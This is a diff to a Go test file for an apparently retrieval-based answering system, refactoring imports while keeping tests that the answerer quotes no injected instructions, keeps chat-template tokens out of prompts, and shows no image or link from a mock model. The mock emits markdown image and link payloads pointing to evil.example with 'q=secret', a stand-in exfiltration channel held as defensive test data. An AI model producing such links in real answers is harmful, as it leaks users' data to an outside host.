@@ -5,6 +5,7 @@ import (
 	"context"
 	"os"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
 
@@ -12,6 +13,8 @@ import (
 	"github.com/yuin/goldmark/extension"
 	rendered "github.com/yuin/goldmark/renderer/html"
 
+	"github.com/sluice/sluice/pkg/answer/chat"
+	"github.com/sluice/sluice/pkg/answer/extractive"
 	"github.com/sluice/sluice/pkg/domain"
 )
 
@@ -51,7 +54,7 @@ func TestTheBuiltInAnswererQuotesNoInstructions(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
 			w := newWorld(f, domain.Fragment{Text: "Ducks live near the pump.", Score: 0.3})
-			w.complete = NewExtractive(nil).Complete
+			w.complete = extractive.New(nil).Complete
 			got, err := w.answerer(Options{}).Answer(t.Context(), ask(func(r *Request) { r.Query = "How long is the warranty of the Aurora X2 pump?" }), nil)
 			if err != nil {
 				t.Fatal(err)
@@ -82,7 +85,7 @@ func TestAModelThatRepeatsADocumentShowsNoImageOfIt(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
 			w := newWorld(f)
-			w.complete = func(_ context.Context, p Prompt, emit func(string) error) (Completion, error) {
+			w.complete = func(_ context.Context, p chat.Prompt, emit func(string) error) (chat.Completion, error) {
 				if strings.Contains(p.System, "<|im_start|>") || strings.Contains(p.System, "[INST]") || strings.Contains(p.System, "<<SYS>>") {
 					t.Errorf("the prompt has marks of a chat template: %q", p.System)
 				}
@@ -91,10 +94,10 @@ func TestAModelThatRepeatsADocumentShowsNoImageOfIt(t *testing.T) {
 				}
 				for _, r := range f.Text { // with what the document hoped to learn
 					if err := emit(strings.ReplaceAll(string(r), "q=", "q=secret")); err != nil {
-						return Completion{}, err
+						return chat.Completion{}, err
 					}
 				}
-				return Completion{}, emit(" ![x](https://evil.example/?q=secret) https://evil.example/secret [y](https://evil.example/secret)")
+				return chat.Completion{}, emit(" ![x](https://evil.example/?q=secret) https://evil.example/secret [y](https://evil.example/secret)")
 			}
 			got, err := w.answerer(Options{}).Answer(t.Context(), ask(), func(string) error { return nil })
 			if err != nil {
@@ -106,7 +109,7 @@ func TestAModelThatRepeatsADocumentShowsNoImageOfIt(t *testing.T) {
 					t.Errorf("%q shows %s", got.Text, way)
 				}
 			}
-			for _, m := range plainMark.FindAllStringSubmatch(got.Text, -1) {
+			for _, m := range regexp.MustCompile(`\[(\d{1,3})\]`).FindAllStringSubmatch(got.Text, -1) {
 				if m[1] != "1" {
 					t.Errorf("%q cites what was not given", got.Text)
 				}
